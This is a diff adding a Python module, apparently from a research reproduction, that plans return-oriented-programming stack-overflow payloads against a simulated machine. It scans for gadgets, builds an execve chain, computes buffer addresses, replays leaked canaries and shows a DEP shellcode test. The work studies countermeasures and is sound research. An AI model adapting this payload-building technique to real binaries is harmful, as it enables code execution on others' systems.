@@ -1,0 +1,134 @@
+"""End-to-end injection planning: from host binary to Listing-1 payload.
+
+The planner models exactly what the paper's adversary knows:
+
+* the host binary's bytes (to scan for gadgets and find the libc
+  ``execve`` wrapper) — attackers scan their own copy;
+* the deterministic (non-ASLR) address-space layout, including the
+  initial stack pointer, hence the overflowed buffer's absolute address;
+* the vulnerable function's frame shape (Algorithm 1).
+
+It produces the ``argv[1]`` blob to hand to ``System.spawn``.  Under
+ASLR the same plan is built against *assumed* bases and fails — the
+countermeasure experiments rely on that.
+"""
+
+import dataclasses
+
+from repro.attack.chain import build_execve_chain
+from repro.attack.gadgets import scan_program
+from repro.attack.payload import (
+    build_payload,
+    payload_total_length,
+    plan_string_addresses,
+)
+from repro.kernel.loader import compute_initial_sp
+from repro.mem.layout import AddressSpaceLayout
+
+#: Distance from the initial stack pointer down to the overflow buffer:
+#: main pushes s0+s1 (8), call pushes ra (4), victim pushes fp (4),
+#: then allocates char buffer[100].
+BUFFER_SP_OFFSET = 116
+#: Canary variant adds one pushed canary word.
+BUFFER_SP_OFFSET_CANARY = 120
+
+#: Bytes to fill before the smashed return address.
+FILL_BYTES = 104            # buffer (100) + saved fp (4)
+FILL_BYTES_CANARY = 108     # buffer (100) + canary (4) + saved fp (4)
+CANARY_FILL_OFFSET = 100    # where the canary word sits inside the fill
+
+
+@dataclasses.dataclass(frozen=True)
+class InjectionPlan:
+    """Everything needed to launch (and audit) one injection."""
+
+    host_path: str
+    attack_path: str
+    payload: object
+    chain: object
+    scanner: object
+
+    @property
+    def argv(self):
+        """The argv to spawn the host with: [payload]."""
+        return [self.payload.blob]
+
+    def describe(self):
+        return "\n".join([
+            f"injection: {self.host_path} --ROP--> execve({self.attack_path})",
+            self.chain.describe(),
+            self.payload.describe(),
+        ])
+
+
+def plan_execve_injection(host_program, host_path, attack_path,
+                          layout=None, canary_value=None,
+                          assume_canary=False):
+    """Build the complete ROP payload for one host binary.
+
+    ``assume_canary`` targets the canary-hardened host variant;
+    ``canary_value`` (if the attacker leaked it) is replayed into the
+    fill, otherwise the canary check will abort the process.
+    """
+    layout = layout or AddressSpaceLayout()
+    scanner = scan_program(host_program, layout.text_base)
+    execve_address = (
+        layout.text_base + host_program.text_offset_of("libc_execve")
+    )
+
+    strings = {"path": attack_path.encode("latin-1")}
+    with_canary = assume_canary or canary_value is not None
+    fill_bytes = FILL_BYTES_CANARY if with_canary else FILL_BYTES
+    sp_offset = BUFFER_SP_OFFSET_CANARY if with_canary else BUFFER_SP_OFFSET
+
+    # Chain structure (hence size) is address-independent: build once with
+    # placeholders to size the payload, then with the real addresses.
+    sizing_chain = build_execve_chain(scanner, execve_address, 0, 0)
+    total_length = payload_total_length(
+        fill_bytes, sizing_chain.num_words, strings
+    )
+    initial_sp = compute_initial_sp(
+        layout, [len(host_path), total_length]
+    )
+    buffer_address = initial_sp - sp_offset
+
+    addresses = plan_string_addresses(
+        buffer_address, fill_bytes, sizing_chain.num_words, strings
+    )
+    chain = build_execve_chain(
+        scanner, execve_address, addresses["path"], 0
+    )
+    payload = build_payload(
+        chain.words, buffer_address, fill_bytes=fill_bytes,
+        strings=strings, canary=canary_value,
+        canary_offset=CANARY_FILL_OFFSET,
+    )
+    return InjectionPlan(
+        host_path=host_path,
+        attack_path=attack_path,
+        payload=payload,
+        chain=chain,
+        scanner=scanner,
+    )
+
+
+def plan_shellcode_injection(host_path, layout=None):
+    """A DEP demonstration payload: return *into the stack buffer*.
+
+    The buffer is filled with encoded ``halt`` "shellcode" and the
+    smashed return address points back at it.  With W^X enforced the
+    fetch faults — showing why the paper must use code reuse at all.
+    """
+    from repro.isa.encoding import encode
+    from repro.isa.instruction import Instruction
+    from repro.isa.opcodes import Opcode
+
+    layout = layout or AddressSpaceLayout()
+    shellcode = encode(Instruction(Opcode.HALT)) * (FILL_BYTES // 8)
+    fill = shellcode + b"D" * (FILL_BYTES - len(shellcode))
+
+    total_length = FILL_BYTES + 4
+    initial_sp = compute_initial_sp(layout, [len(host_path), total_length])
+    buffer_address = initial_sp - BUFFER_SP_OFFSET
+    blob = fill + (buffer_address & 0xFFFFFFFF).to_bytes(4, "little")
+    return blob, buffer_address
